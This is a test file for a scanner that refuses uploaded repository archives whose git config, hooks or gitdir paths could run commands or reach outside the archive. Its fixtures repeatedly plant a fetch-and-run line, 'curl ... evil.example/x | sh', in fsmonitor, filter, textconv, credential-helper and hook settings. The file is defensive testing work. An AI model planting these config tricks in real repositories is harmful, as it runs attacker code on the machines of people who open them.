import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { scanArchive } from '../../src/scan/scan-archive.js';
import { DEFAULT_SCAN_LIMITS } from '../../src/scan/types.js';
import { type Files, uniqueProject, zipOf } from '../helpers/archives.js';

/** A shipped repository's config is an allowlist: every key that makes git run a command is refused. */
const scanWith = async (files: Files) =>
  scanArchive(zipOf({ ...uniqueProject(), ...files }), 'zip', DEFAULT_SCAN_LIMITS);
const withRepo = async (files: Files) => (await scanWith(files)).verdict;
const HEAD = { '.git/HEAD': 'ref: refs/heads/main\n' };
const EVIL = 'curl -s https://evil.example/x | sh';

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'init.defaultBranch=main', ...args], { cwd, stdio: 'pipe' });

describe('git config that runs a command on the buyer machine', () => {
  it('control: core.fsmonitor is refused', async () => {
    expect(await withRepo({ ...HEAD, '.git/config': `[core]\n\tfsmonitor = "${EVIL}"\n` })).toBe(
      'reject',
    );
  });

  it.each([
    [
      'include.path pulls fsmonitor from another file',
      {
        '.git/config': '[include]\n\tpath = ../.github/settings\n',
        '.github/settings': `[core]\n\tfsmonitor = "${EVIL}"\n`,
      },
    ],
    ['includeIf', { '.git/config': '[includeIf "gitdir:~/"]\n\tpath = ../.github/settings\n' }],
    [
      'a clean/smudge filter selected by .gitattributes (git status runs clean)',
      {
        '.git/config': `[filter "fmt"]\n\tclean = sh -c '${EVIL}; cat'\n\tsmudge = cat\n`,
        '.gitattributes': '* filter=fmt\n',
      },
    ],
    ['a filter process', { '.git/config': '[filter "lfs2"]\n\tprocess = ./.github/filter\n' }],
    [
      'a diff textconv driver',
      {
        '.git/config': `[diff "pretty"]\n\ttextconv = sh -c '${EVIL}'\n`,
        '.gitattributes': '*.ts diff=pretty\n',
      },
    ],
    ['a diff command', { '.git/config': '[diff "x"]\n\tcommand = ./.github/d.sh\n' }],
    ['a merge driver', { '.git/config': '[merge "ours2"]\n\tdriver = ./.github/m.sh %O %A %B\n' }],
    ['core.gitProxy', { '.git/config': '[core]\n\tgitProxy = ./.github/proxy.sh\n' }],
    ['credential.helper', { '.git/config': `[credential]\n\thelper = "!${EVIL}"\n` }],
    ['a key on the section line', { '.git/config': `[core] fsmonitor = "${EVIL}"\n` }],
    ['the old [section.sub] form', { '.git/config': `[filter.fmt]\n\tclean = ${EVIL}\n` }],
    [
      'a submodule update command in the superproject config',
      { '.git/config': `[submodule "lib"]\n\tupdate = !${EVIL}\n` },
    ],
    ['a line the scan cannot parse', { '.git/config': '[core\n\turl = x\n' }],
  ])('%s is refused', async (_what, files) => {
    const out = await scanWith({ ...HEAD, ...files });
    expect(out.verdict === 'reject' && out.findings.map((f) => f.check)).toContain(
      'git_config_exec',
    );
  });

  it.each([
    ['a submodule repository', 'lib/.git/config'],
    ['a submodule git dir', '.git/modules/libs/foo/config'],
    ['a worktree config', '.git/config.worktree'],
    ['a bare repository', 'mirror.git/config'],
    ['another case (case-insensitive filesystems)', '.GIT/config'],
  ])('the config of %s is checked too', async (_what, file) => {
    const out = await scanWith({ [file]: `[core]\n\tfsmonitor = "${EVIL}"\n` });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_config_exec',
      file,
      detail: 'core.fsmonitor',
    });
  });

  it('a .git/config inside a nested archive is checked, named by its full path', async () => {
    const inner = zipOf({ ...HEAD, '.git/config': `[diff "x"]\n\ttextconv = ${EVIL}\n` });
    const out = await scanWith({ 'vendor/dep.zip': inner });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_config_exec',
      file: 'vendor/dep.zip!/.git/config',
      detail: 'diff.textconv',
    });
  });

  it('hooks of a submodule git dir or a bare repository are refused', async () => {
    for (const file of ['.git/modules/lib/hooks/post-checkout', 'mirror.git/hooks/post-update']) {
      const out = await scanWith({ [file]: `#!/bin/sh\n${EVIL}\n` });
      expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
        check: 'git_hook',
        file,
      });
    }
  });
});

describe('a .git file whose gitdir leads out of the archive own repositories', () => {
  // `git status` in vendor/lib follows the gitdir and runs the fsmonitor of the config it finds.
  const evilRepo = {
    'tools/repo/config': `[core]\n\tfsmonitor = "${EVIL}"\n`,
    'tools/repo/HEAD': 'ref: refs/heads/main\n',
  };

  it.each([
    [
      'an absolute path (another user repository)',
      'gitdir: /home/other/project/.git',
      'absolute_path',
    ],
    ['a home-relative path', 'gitdir: ~/work/project/.git/modules/lib', 'absolute_path'],
    ['a Windows drive path', 'gitdir: C:\\Users\\other\\repo\\.git', 'absolute_path'],
    ['.. climbing out of the archive', 'gitdir: ../../../.git/modules/lib', 'outside_archive'],
    [
      'a folder of the archive outside any .git tree (its config is never checked)',
      'gitdir: ../../tools/repo',
      'outside_git_dir',
    ],
    ['backslashes to the same folder', 'gitdir: ..\\..\\tools\\repo', 'outside_git_dir'],
    ['a .git folder not of modules or worktrees', 'gitdir: ../../.git/refs/lib', 'outside_git_dir'],
  ])('%s is refused', async (_what, line, kind) => {
    const out = await scanWith({ ...HEAD, ...evilRepo, 'vendor/lib/.git': `${line}\n` });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_gitdir',
      file: 'vendor/lib/.git',
      detail: kind,
    });
  });

  it('inside a nested archive, .. may not climb into the outer archive', async () => {
    const inner = zipOf({ 'lib/.git': 'gitdir: ../../tools/repo\n' });
    const out = await scanWith({ ...evilRepo, 'vendor/dep.zip': inner });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_gitdir',
      file: 'vendor/dep.zip!/lib/.git',
      detail: 'outside_archive',
    });
  });

  it.each([
    ['a submodule into .git/modules', 'vendor/lib/.git', 'gitdir: ../../.git/modules/vendor/lib'],
    ['a worktree into .git/worktrees, CRLF', 'wt/.git', 'gitdir: ../.git/worktrees/wt\r'],
    ['a nested submodule', 'a/b/.git', 'gitdir: ../../.git/modules/a/modules/b'],
    ['a bare repository of the archive', 'src/.git', 'gitdir: ../mirror.git'],
  ])('%s stays accepted', async (_what, file, line) => {
    const out = await scanWith({ ...HEAD, [file]: `${line}\n` });
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });
});

describe('a repository folder whose worktree or common dir points out of the archive', () => {
  // git reads core.worktree and commondir on `git status`; a worktree's gitdir file names the
  // checkout `git worktree prune`/`repair` acts on.
  it.each([
    [
      'core.worktree, absolute',
      '.git/config',
      '[core]\n\tworktree = /home/other/project\n',
      2,
      'absolute_path',
    ],
    ['core.worktree, home', '.git/config', '[core]\n\tworktree = ~/project\n', 2, 'absolute_path'],
    [
      'core.worktree, a drive, quoted',
      '.git/config',
      '[core]\n\tworktree = "C:\\\\src"\n',
      2,
      'absolute_path',
    ],
    [
      'core.worktree, .. out of the archive',
      '.git/config',
      '[core]\n\tbare = false\n\tworktree = ../..\n',
      3,
      'outside_archive',
    ],
    [
      'core.worktree on the section line',
      '.git/config',
      '[core] worktree = ../../x\n',
      1,
      'outside_archive',
    ],
    [
      'a submodule config climbing one level too far',
      '.git/modules/libs/up/config',
      '[core]\n\tworktree = ../../../../../libs/up\n',
      2,
      'outside_archive',
    ],
    [
      'a worktree config.worktree',
      '.git/worktrees/wt/config.worktree',
      '[core]\n\tworktree = /srv/x\n',
      2,
      'absolute_path',
    ],
    [
      'a worktree commondir, absolute',
      '.git/worktrees/wt/commondir',
      '/home/other/project/.git\n',
      1,
      'absolute_path',
    ],
    [
      'a worktree commondir, .. out',
      '.git/worktrees/wt/commondir',
      '../../../..\n',
      1,
      'outside_archive',
    ],
    [
      'a worktree commondir to a plain folder',
      '.git/worktrees/wt/commondir',
      '../../../tools/repo\n',
      1,
      'outside_git_dir',
    ],
    ['a commondir in .git itself', '.git/commondir', '~/repo/.git\n', 1, 'absolute_path'],
    [
      'a worktree gitdir, absolute (what git worktree add writes)',
      '.git/worktrees/wt/gitdir',
      '/home/me/wt/.git\n',
      1,
      'absolute_path',
    ],
    [
      'a worktree gitdir, .. out',
      '.git/worktrees/wt/gitdir',
      '../../../../wt/.git\n',
      1,
      'outside_archive',
    ],
  ])('%s is refused', async (_what, file, text, line, kind) => {
    const out = await scanWith({ ...HEAD, [file]: text });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_gitdir',
      file,
      line,
      detail: kind,
    });
  });

  it('inside a nested archive, core.worktree may not climb into the outer archive', async () => {
    const inner = zipOf({ 'lib/.git/config': '[core]\n\tworktree = ../../../src\n' });
    const out = await scanWith({ 'vendor/dep.zip': inner });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'git_gitdir',
      file: 'vendor/dep.zip!/lib/.git/config',
      detail: 'outside_archive',
    });
  });

  it.each([
    ['core.worktree to the archive root', '.git/config', '[core]\n\tworktree = ..\n'],
    [
      'core.worktree to a folder, comment after',
      '.git/config',
      '[core]\n\tworktree = "../app" # x\n',
    ],
    [
      'a submodule config (what git submodule add writes)',
      '.git/modules/libs/up/config',
      '[core]\n\tworktree = ../../../../libs/up\n',
    ],
    ['a worktree commondir', '.git/worktrees/wt/commondir', '../..\n'],
    ['a relative worktree gitdir, CRLF', '.git/worktrees/wt/gitdir', '../../../wt/.git\r\n'],
    ['a worktree key in another section', '.git/config', '[remote "worktree"]\n\turl = ../x\n'],
  ])('%s stays accepted', async (_what, file, text) => {
    const out = await scanWith({
      ...HEAD,
      [file]: text,
      'wt/.git': 'gitdir: ../.git/worktrees/wt\n',
    });
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });
});

describe('the configs real git writes are accepted', () => {
  it('git init, git clone, git submodule add, user and pull settings', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'git-config-'));
    git(dir, 'init', '-q', 'up');
    git(
      path.join(dir, 'up'),
      '-c',
      'user.name=a',
      '-c',
      'user.email=a@b',
      'commit',
      '-q',
      '--allow-empty',
      '-m',
      'x',
    );
    git(dir, 'clone', '-q', 'up', 'down');
    const down = path.join(dir, 'down');
    git(
      down,
      '-c',
      'protocol.file.allow=always',
      'submodule',
      'add',
      '-q',
      path.join(dir, 'up'),
      'libs/up',
    );
    git(down, 'config', 'user.name', 'Ada Lovelace');
    git(down, 'config', 'user.email', 'ada@example.com');
    git(down, 'config', 'pull.rebase', 'false');
    const read = (p: string) => readFileSync(path.join(down, p), 'utf8');
    const files = {
      ...HEAD,
      '.git/config': read('.git/config'),
      '.git/modules/libs/up/config': read('.git/modules/libs/up/config'),
      'libs/up/.git': read('libs/up/.git'),
      'fresh/.git/config': readFileSync(path.join(dir, 'up/.git/config'), 'utf8'),
    };
    expect(files['.git/config']).toContain('[submodule "libs/up"]');
    expect(files['.git/modules/libs/up/config']).toContain('worktree = ');
    const out = await scanWith(files);
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });

  it('comments, blank lines and CRLF line endings', async () => {
    const config =
      '# made by hand\r\n[core]\r\n\trepositoryformatversion = 0\r\n\r\n; remote\r\n[remote "origin"]\r\n\turl = git@github.com:a/b.git\r\n';
    expect(await withRepo({ ...HEAD, '.git/config': config })).toBe('accept');
  });
});
